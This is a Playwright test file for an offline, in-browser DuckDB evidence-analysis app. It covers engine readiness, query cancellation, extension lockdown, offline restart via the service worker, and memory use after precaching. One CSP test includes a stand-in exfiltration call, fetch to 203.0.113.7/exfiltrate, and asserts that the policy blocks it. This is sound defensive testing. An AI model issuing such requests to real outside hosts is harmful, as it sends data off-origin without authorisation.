// The built app in Chromium: boots offline-clean, the engine answers, the CSP holds, the service worker keeps it alive.
import type { CDPSession, Page } from '@playwright/test';
import { CHROMIUM_ARGS, CHROMIUM_PATH } from './chromium';
import { engineReady, expect, runInConsole, startAppServer, test } from './fixtures';

test('the built app opens, the engine reports ready and answers SELECT 42 with no request outside its origin', async ({ app }) => {
  const statusText = await engineReady(app);
  console.log(`engine status: ${statusText}`);
  expect(statusText).toMatch(/DuckDB v1\.4\.3, eh/);
  const grid = await runInConsole(app, 'SELECT 42 AS answer');
  await expect(grid.getByRole('cell', { name: '42', exact: true })).toBeVisible();
});

test('the page carries a CSP that allows only its own origin', async ({ app, guard }) => {
  guard.expected.push(/203\.0\.113\.7/);
  const csp = await app.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  expect(csp).toContain("default-src 'self'");
  expect(csp).toContain("script-src 'self' 'wasm-unsafe-eval'");
  expect(csp).not.toMatch(/https?:/);
  // A request to another origin is refused by the policy itself, not merely unseen.
  const refused = await app.evaluate(async () => {
    try {
      await fetch('http://203.0.113.7/exfiltrate', { mode: 'no-cors' });
      return false;
    } catch {
      return true;
    }
  });
  expect(refused).toBe(true);
  const violations = await app.evaluate(() => (window as unknown as { __cspViolations: string[] }).__cspViolations.splice(0));
  expect(violations.join('\n')).toContain('connect-src');
});

test('extensions cannot be fetched: auto-install is off and the repository is the app itself', async ({ app, server }) => {
  await engineReady(app);
  const grid = await runInConsole(
    app,
    "SELECT current_setting('autoinstall_known_extensions') AS install, current_setting('custom_extension_repository') AS repo",
  );
  await expect(grid.getByRole('cell', { name: 'false' })).toBeVisible();
  await expect(grid.getByRole('cell', { name: `${server.url}duckdb-extensions` })).toBeVisible();
});

test('a query in the console can be cancelled and the engine keeps answering', async ({ app }) => {
  await engineReady(app);
  await runInConsole(app, 'SELECT sum(i) FROM range(1000000000000) t(i)');
  await expect(app.getByRole('button', { name: 'Cancel query' })).toBeEnabled();
  await app.getByRole('button', { name: 'Cancel query' }).click();
  await expect(app.getByRole('alert')).toHaveText('Query cancelled.');
  const grid = await runInConsole(app, 'SELECT 7 AS seven');
  await expect(grid.getByRole('cell', { name: '7', exact: true })).toBeVisible();
});

test('the sample workspace opens from the start page, offline, and every file is recognised and loaded', async ({ app }) => {
  await engineReady(app);
  await app.getByRole('button', { name: 'Open sample workspace' }).click();
  const files = app.getByRole('table', { name: 'Evidence files' });
  await expect(files).toBeVisible({ timeout: 60_000 });
  await expect(files.getByRole('row', { name: /nhi-register\.csv.*NHI register/ })).toBeVisible();
  await expect(files.getByRole('row', { name: /okta-system-log\.json.*Okta System Log/ })).toBeVisible();
  await expect(files.getByRole('row', { name: /\.json\.gz.*AWS CloudTrail/ }).first()).toBeVisible();
  await expect(app.getByText(/15,097 events · 20 inventory identities · 1 actors not in the inventory/)).toBeVisible();
  const grid = await runInConsole(app, "SELECT count(*) AS n FROM events WHERE identity_key IS NULL AND actor LIKE '%tmp-migration-user%'");
  await expect(grid.getByRole('cell', { name: /^\d+$/ })).not.toHaveText('0');
});

/** Resolves once the service worker controls the page, i.e. its precache (wasm included) is complete. */
async function serviceWorkerControls(page: Page): Promise<void> {
  await page.evaluate(async () => {
    await navigator.serviceWorker.ready;
    if (!navigator.serviceWorker.controller) {
      await new Promise<void>((resolve) => navigator.serviceWorker.addEventListener('controllerchange', () => resolve()));
    }
  });
}

test('after one visit the app starts with the server gone (service worker)', async ({ browser }) => {
  const server = await startAppServer();
  const context = await browser.newContext();
  const page = await context.newPage();
  const errors: string[] = [];
  page.on('pageerror', (error) => errors.push(error.message));
  try {
    await page.goto(server.url);
    await engineReady(page);
    await serviceWorkerControls(page);
    await server.close();
    const refused = await fetch(server.url).then(
      () => false,
      () => true,
    );
    expect(refused, 'the server is really gone').toBe(true);
    await page.reload();
    const status = await engineReady(page);
    console.log(`offline restart: ${status}`);
    const grid = await runInConsole(page, 'SELECT 42 AS answer');
    await expect(grid.getByRole('cell', { name: '42', exact: true })).toBeVisible();
    expect(errors).toEqual([]);
  } finally {
    await context.close();
    await server.close();
  }
});

/**
 * Blink's buffer partition (where fetched bodies are buffered) of each renderer process, in MiB, from one Chromium
 * memory-infra dump taken after a forced collection.
 */
async function rendererBufferPartitions(session: CDPSession): Promise<number[]> {
  type TraceEvent = { ph: string; pid: number; name?: string; args?: Record<string, unknown> };
  const events: TraceEvent[] = [];
  session.on('Tracing.dataCollected', (event) => void events.push(...(event.value as unknown as TraceEvent[])));
  const complete = new Promise<void>((resolve) => session.once('Tracing.tracingComplete', () => resolve()));
  await session.send('Tracing.start', {
    traceConfig: { includedCategories: ['disabled-by-default-memory-infra'], memoryDumpConfig: { triggers: [] } as never },
    transferMode: 'ReportEvents',
  });
  const dump = await session.send('Tracing.requestMemoryDump', { deterministic: true, levelOfDetail: 'detailed' });
  expect(dump.success).toBe(true);
  await session.send('Tracing.end');
  await complete;
  const renderers = new Set(events.filter((e) => e.ph === 'M' && e.name === 'process_name' && /renderer/i.test(String(e.args?.name))).map((e) => e.pid));
  const sizes: number[] = [];
  for (const event of events) {
    if (event.ph !== 'v' || !renderers.has(event.pid)) continue;
    const allocators = (event.args?.dumps as { allocators?: Record<string, { attrs?: { size?: { value?: string } } }> } | undefined)?.allocators ?? {};
    const size = allocators['partition_alloc/partitions/buffer']?.attrs?.size?.value;
    if (size) sizes.push(Number.parseInt(size, 16) / 2 ** 20);
  }
  return sizes;
}

test("the first visit's precache leaves no wasm bundle buffered in the tab (memory-infra dump)", async ({ playwright }) => {
  // A browser of its own, so the only renderer holding the app is this test's.
  const browser = await playwright.chromium.launch({ executablePath: CHROMIUM_PATH, args: CHROMIUM_ARGS, headless: true });
  const server = await startAppServer();
  try {
    const context = await browser.newContext({ serviceWorkers: 'allow' });
    const page = await context.newPage();
    await page.goto(server.url);
    await engineReady(page);
    // The precache (both wasm bundles, 73 MB) is complete once the worker controls the page.
    await serviceWorkerControls(page);
    const sizes = await rendererBufferPartitions(await browser.newBrowserCDPSession());
    console.log(`renderer buffer partitions after the precache: ${sizes.map((s) => `${s.toFixed(1)} MiB`).join(', ')}`);
    expect(sizes.length).toBeGreaterThan(0);
    // Workbox's precache left 57-64 MiB here (an unread clone of each response); one wasm bundle alone is 33-38 MiB.
    expect(Math.max(...sizes)).toBeLessThan(32);
  } finally {
    await browser.close();
    await server.close();
  }
});
